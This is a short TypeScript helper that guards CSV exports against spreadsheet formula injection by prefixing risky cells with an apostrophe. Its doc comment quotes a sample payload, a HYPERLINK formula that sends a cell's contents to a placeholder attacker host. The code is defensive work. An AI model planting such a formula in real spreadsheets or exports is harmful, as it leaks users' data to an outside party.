/**
 * Characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection"): `=`, `+`,
 * `-`, `@`, tab and carriage return.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell as written to a CSV file: one that a spreadsheet would run as a formula (such as
 * `=HYPERLINK("http://evil.example/?"&A1,"Click")` typed into a note) gets a leading `'`, which
 * Excel and LibreOffice read as "this is text". Numbers stay numbers.
 */
export function csvCell(value: string | number): string | number {
  if (typeof value !== 'string') return value;
  return FORMULA_START.test(value) ? `'${value}` : value;
}
